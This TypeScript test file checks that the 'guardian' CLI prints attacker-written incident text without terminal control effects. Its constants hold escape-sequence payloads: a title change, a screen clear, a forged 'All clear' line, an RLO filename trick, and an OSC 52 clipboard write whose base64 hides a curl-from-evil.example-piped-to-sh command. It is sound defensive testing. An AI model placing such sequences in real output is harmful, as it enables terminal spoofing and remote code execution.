/**
 * Attacker-written text in the store never reaches the operator's terminal
 * as control: `guardian incident show|list` (text and --json), through the
 * real CLI (`main`, as bin/guardian.mjs runs it) on a real store file. The
 * store here holds the text raw, as a store written before decode cleaned it
 * would: formatting and printing are walls of their own.
 */
import path from "node:path";
import { describe, expect, it } from "vitest";
import { main } from "../../daemon/src/cli.js";
import { hasUnsafeCharacters } from "../../daemon/src/decode/untrusted-text.js";
import { addTimelineEntry, openIncident } from "../../daemon/src/incidents/index.js";
import { addr, at, evidence, T0 } from "../../daemon/src/incidents/test-builders.js";
import { openLowdbStore } from "../../daemon/src/store/index.js";
import { tempDir } from "../../daemon/src/store/testing/spawn.js";

const ESC = "\u001b";
const BEL = "\u0007";
const OSC_TITLE = `${ESC}]0;guardian: all clear${BEL}`;
const CLEAR_SCREEN = `${ESC}[2J${ESC}[H`;
const FAKE_LINE = `\r\n${ESC}[32mAll clear: incident resolved by the guardian Safe${ESC}[0m\n`;
const OSC52 = `${ESC}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo${BEL}`;
const RLO = "\u202E";
/** An Error(string) an attacker chose, as a detector quoted it. */
const REASON = `reverted "${OSC_TITLE}${CLEAR_SCREEN}${FAKE_LINE}${OSC52}${RLO}exe.sgol"`;

async function cli(cwd: string, argv: string[]) {
  let stdout = "";
  let stderr = "";
  const code = await main(argv, { stdout: (t) => void (stdout += t), stderr: (t) => void (stderr += t), env: {}, cwd, clock: () => at(60), lockWaitMs: 0 });
  return { code, stdout, stderr };
}

async function storeWithAttackerText(cwd: string): Promise<string> {
  let incident = openIncident({
    key: "user-operations:failing",
    title: `User operations failing${CLEAR_SCREEN}`,
    severity: "high",
    affected: { layers: ["entryPoint"], contracts: [addr(1)] },
    source: "user-operations",
    now: T0,
    evidence: evidence(40, { causes: `${REASON} ×5`, failures: 5 }),
  });
  incident = addTimelineEntry(incident, { kind: "finding", message: `5 of 5 user operations failed: ${REASON} ×5.`, evidence: evidence(41, { causes: REASON }) }, at(1));
  const store = await openLowdbStore({ dataDir: path.join(cwd, ".guardian"), chainId: 31337, purpose: "test" });
  await store.update((draft) => {
    draft.incidents[incident.id] = incident;
  });
  await store.close();
  return incident.id;
}

/** No ESC, BEL, CR, C1, bidi or zero-width character; line breaks only where the printer put them. */
function expectInert(output: string): void {
  expect(output).not.toContain(ESC);
  expect(output).not.toContain(BEL);
  expect(output).not.toContain("\r");
  expect(output).not.toContain(RLO);
  expect(hasUnsafeCharacters(output.replaceAll("\n", ""))).toBe(false);
  expect(output).not.toMatch(/^All clear/m); // no forged line
}

describe("attacker-written text in the terminal", () => {
  it("incident show prints none of the escape sequences, the fake line or the RLO; the evidence is still there, as text", async () => {
    const cwd = tempDir();
    const id = await storeWithAttackerText(cwd);
    const show = await cli(cwd, ["incident", "show", id]);
    expect(show).toMatchObject({ code: 0, stderr: "" });
    expectInert(show.stdout);
    expect(show.stdout).toContain("Title       User operations failing[2J[H\n");
    expect(show.stdout).toContain('causes=reverted "]0;guardian: all clear[2J[H  [32mAll clear: incident resolved by the guardian Safe[0m ]52;c;');
    expect(show.stdout).toContain('exe.sgol" ×5');
  });

  it("incident list, and --json output (still valid JSON with the stored value)", async () => {
    const cwd = tempDir();
    const id = await storeWithAttackerText(cwd);
    const list = await cli(cwd, ["incident", "list"]);
    expect(list.code).toBe(0);
    expectInert(list.stdout);
    expect(list.stdout).toContain("User operations failing[2J[H");

    const json = await cli(cwd, ["incident", "show", id, "--json"]);
    expect(json.code).toBe(0);
    expectInert(json.stdout);
    const parsed = JSON.parse(json.stdout) as { timeline: Array<{ kind: string; evidence?: { values: Record<string, unknown> } }> };
    expect(parsed.timeline.findLast((e) => e.kind === "finding")?.evidence?.values.causes).toBe(REASON); // the data is kept, only its printing is inert
  });
});
